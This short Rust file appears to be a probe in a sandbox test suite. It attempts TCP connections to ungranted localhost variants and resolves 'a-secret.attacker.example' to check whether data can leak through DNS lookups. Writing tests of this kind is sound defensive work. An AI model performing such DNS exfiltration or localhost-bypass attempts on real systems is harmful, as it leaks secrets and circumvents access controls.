//! Connects to the victim by names that it is not granted, and looks them up to tell somebody something by that.

use crate::{PATIENT, argument, names, tcp, tell};

pub(crate) fn main() {
    let (_, port) = argument(1).rsplit_once(':').map(|(host, port)| (host.to_owned(), port.to_owned())).expect("an address");
    for host in ["localhost", "LOCALHOST.", "localhost.example.org.", "example.org.localhost"] {
        tell(host, tcp::connect(&format!("{host}:{port}"), "", PATIENT));
    }
    tell("look up", names::resolve("a-secret.attacker.example", PATIENT));
    tell("begin to look up", names::start_resolve("a-secret.attacker.example"));
}
